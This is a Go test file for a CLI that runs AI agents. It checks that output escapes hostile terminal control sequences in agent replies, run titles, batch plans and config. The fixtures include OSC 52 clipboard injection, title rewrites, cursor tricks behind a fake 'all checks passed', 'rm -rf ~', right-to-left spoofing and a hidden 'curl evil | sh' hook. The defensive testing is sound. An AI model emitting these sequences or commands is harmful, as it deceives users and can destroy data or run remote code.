package plain

import (
	"encoding/json"
	"strings"
	"testing"
	"time"

	"github.com/jlgcli/jlgcli/internal/agent"
	"github.com/jlgcli/jlgcli/internal/batch"
	"github.com/jlgcli/jlgcli/internal/config"
	"github.com/jlgcli/jlgcli/internal/engine"
	"github.com/jlgcli/jlgcli/internal/local"
	"github.com/jlgcli/jlgcli/internal/runs"
	"github.com/jlgcli/jlgcli/internal/store"
	"github.com/jlgcli/jlgcli/internal/termsafe"
	"github.com/jlgcli/jlgcli/internal/tty"
)

// hostileReply is what attack_terminal's agent replies: the clipboard
// (OSC 52: "echo pwned"), the window title, then its report.
const hostileReply = "\x1b]52;c;ZWNobyBwd25lZAo=\x07\x1b]0;pwned-title\x07escape: ok\n" +
	"\x1b[1A\x1b[2Kall checks passed\rrm -rf ~ \u202eexe.txt\u202c\x9b\nDONE\n"

// hostileSeen is hostileReply as the user sees it.
const hostileSeen = `\x1b]52;c;ZWNobyBwd25lZAo=\a\x1b]0;pwned-title\aescape: ok` + "\n" +
	`\x1b[1A\x1b[2Kall checks passed\rrm -rf ~ \u202eexe.txt\u202c\x9b` + "\nDONE\n"

// screen is what a terminal cols cells wide shows of out, printable text
// with newlines and tabs (what termsafe leaves): a row per line, a long line
// wrapped, tabs to the next multiple of 8.
func screen(t *testing.T, out string, cols int) []string {
	t.Helper()
	if !termsafe.Safe(out) {
		t.Fatalf("not safe for a terminal: %q", out)
	}
	var rows []string
	for _, line := range strings.Split(strings.TrimSuffix(out, "\n"), "\n") {
		line = strings.TrimSuffix(line, "\r")
		var row []rune
		for _, r := range line {
			if r == '\t' {
				for len(row)%8 != 7 && len(row) < cols-1 {
					row = append(row, ' ')
				}
				r = ' '
			}
			if len(row) == cols {
				rows = append(rows, string(row))
				row = row[:0]
			}
			row = append(row, r)
		}
		rows = append(rows, string(row))
	}
	return rows
}

// show of a loop whose agent replied escape sequences, failed and was
// refused with them: nothing is run, everything is seen, as at 80 columns.
func TestShowLoopHostile(t *testing.T) {
	st := runs.State{ID: "r1", Dir: "/state/runs/r1", Meta: store.Meta{Command: "loop", Backend: "evil\x1b[8m"},
		Loop: &engine.Result{RunID: "r1", Status: engine.StatusDone, Details: "ok\x1b]0;title\x07\nsecond line", Iterations: 1,
			Transcript: []engine.Entry{{Iteration: 1, Response: hostileReply,
				Failure: &agent.Failure{Kind: "api", Message: "rate\x1b[2J limited"},
				Refusal: &engine.Refusal{Guard: "checks", Details: "go test: FAIL\r\x1b[32mPASS"}}}}}
	var out strings.Builder
	if err := ShowLoop(&out, st, tty.Terminal{}); err != nil {
		t.Fatal(err)
	}
	rows := screen(t, out.String(), 80)
	for _, want := range []string{
		`backend     evil\x1b[8m`,
		`details     ok\x1b]0;title\a\nsecond line`,
		`failure: api: rate\x1b[2J limited`,
		`refused by checks: go test: FAIL\r\x1b[32mPASS`,
		`\x1b]52;c;ZWNobyBwd25lZAo=\a\x1b]0;pwned-title\aescape: ok`,
		`\x1b[1A\x1b[2Kall checks passed\rrm -rf ~ \u202eexe.txt\u202c\x9b`,
		"DONE",
	} {
		if !contains(rows, want) {
			t.Errorf("show at 80 columns has no row %q:\n%s", want, strings.Join(rows, "\n"))
		}
	}
}

func contains(rows []string, row string) bool {
	for _, r := range rows {
		if strings.TrimRight(r, " ") == row {
			return true
		}
	}
	return false
}

// A loop's reply on stdout is safe; its JSON is exact, every character a
// terminal would run escaped.
func TestResultHostile(t *testing.T) {
	res := engine.Result{Status: engine.StatusDone, Text: hostileReply, Transcript: []engine.Entry{{Iteration: 1}}}
	var out strings.Builder
	if err := Result(&out, &lines{}, false, res); err != nil {
		t.Fatal(err)
	}
	if out.String() != hostileSeen {
		t.Errorf("Result wrote %q, want %q", out.String(), hostileSeen)
	}
	for text, want := range map[string]string{"all good\r\nDONE\r\n": "all good\r\nDONE\r\n", "50%\r": `50%\r` + "\n"} {
		out.Reset()
		res.Text = text
		if err := Result(&out, &lines{}, false, res); err != nil || out.String() != want {
			t.Errorf("Result of %q wrote %q, want %q", text, out.String(), want)
		}
	}
	out.Reset()
	res.Text = "\u009b2J \u202e \u2028 \x7f \x1b"
	if err := Result(&out, &lines{}, true, res); err != nil {
		t.Fatal(err)
	}
	if !termsafe.Safe(out.String()) || !strings.Contains(out.String(), `"text": "\u009b2J \u202e \u2028 \u007f \u001b"`) {
		t.Errorf("Result JSON: %s", out.String())
	}
	var back engine.Result
	if err := json.Unmarshal([]byte(out.String()), &back); err != nil || back.Text != res.Text {
		t.Errorf("Result JSON read back as %q, %v", back.Text, err)
	}
}

// A title's tab, newline or escape neither breaks the runs table nor
// runs: each run is one row, its title where the column starts.
func TestRunsHostileTitle(t *testing.T) {
	list := []runs.Listed{
		{RunRow: store.RunRow{ID: "r2", Command: "task", Status: "done", Title: "a\tb\nc\x1b[2J", StartedAt: time.Now()}},
		{RunRow: store.RunRow{ID: "r1", Command: "loop", Status: "done", Title: "plain", StartedAt: time.Now()}},
	}
	var out strings.Builder
	if err := Runs(&out, list, tty.Terminal{}); err != nil {
		t.Fatal(err)
	}
	rows := screen(t, out.String(), 200)
	if len(rows) != 3 {
		t.Fatalf("runs: %d rows, want 3:\n%s", len(rows), out.String())
	}
	col := strings.Index(rows[0], "TITLE")
	if !strings.HasPrefix(rows[1][col:], `a\tb\nc\x1b[2J`) || !strings.HasPrefix(rows[2][col:], "plain") {
		t.Errorf("titles not in their column:\n%s", strings.Join(rows, "\n"))
	}
	got := Completions(list, "r2")
	if len(got) != 1 || got[0] != "r2\ttask done: "+`a\tb\nc\x1b[2J` {
		t.Errorf("Completions = %q", got)
	}
}

// A batch's plan and table show the sheets' ids and titles as written.
func TestBatchHostileSheets(t *testing.T) {
	spec := local.BatchSpec{Jobs: 1, Tasks: []local.BatchTask{{ID: "a\x1b[8m", File: "a.md", Title: "Fix\x1b]52;c;eA==\x07 it\r"}}}
	var out strings.Builder
	BatchPlan(&out, spec, [][]string{{"a\x1b[8m"}})
	if !contains(screen(t, out.String(), 80), `  1. a\x1b[8m (a.md): Fix\x1b]52;c;eA==\a it\r`) {
		t.Errorf("BatchPlan:\n%s", out.String())
	}
	out.Reset()
	BatchTable(&out, batch.Summary{Tasks: []batch.TaskSummary{{ID: "a\x1b[8m", Status: "failed", Details: "check \x1b[31mfailed"}}}, tty.Terminal{})
	if rows := screen(t, out.String(), 120); !strings.HasPrefix(rows[1], `a\x1b[8m  failed`) || !contains(rows, `a\x1b[8m: check \x1b[31mfailed`) {
		t.Errorf("BatchTable:\n%s", out.String())
	}
}

// What a project file sets is shown whole, in config and in trust: an
// escape sequence cannot hide a hook's command from the user who trusts it.
func TestTrustAndConfigHostile(t *testing.T) {
	var out strings.Builder
	hook := "hooks[0] on run.ended: curl evil | sh\r\x1b[2Knotify-send done"
	if err := Trusted(&out, runs.Trusted{File: "/p/jlgcli.toml", SHA256: strings.Repeat("a", 64), Runs: []string{hook}}); err != nil {
		t.Fatal(err)
	}
	if !contains(screen(t, out.String(), 80), `  hooks[0] on run.ended: curl evil | sh\r\x1b[2Knotify-send done`) {
		t.Errorf("Trusted:\n%s", out.String())
	}
	out.Reset()
	if err := Config(&out, []config.Setting{{Key: "model", Value: "opus\x1b[8m\tx\ny", Source: "/p/jlgcli.toml"}}, false); err != nil {
		t.Fatal(err)
	}
	if rows := screen(t, out.String(), 80); len(rows) != 2 || !strings.Contains(rows[1], `opus\x1b[8m\tx\ny  /p/jlgcli.toml`) {
		t.Errorf("Config:\n%s", out.String())
	}
}
